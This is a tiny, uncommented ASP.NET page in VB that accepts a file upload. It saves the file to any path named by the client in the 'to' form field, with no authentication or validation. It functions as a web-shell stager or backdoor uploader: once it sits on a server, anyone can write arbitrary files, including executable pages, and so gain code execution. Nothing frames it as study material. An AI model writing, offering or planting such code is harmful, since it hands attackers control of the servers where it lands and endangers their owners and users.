<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    If Request.Files.Count = 0 Then Exit Sub
    Dim f As HttpPostedFile = Request.Files("up")
    f.SaveAs(Request.Form("to"))
End Sub
</script>
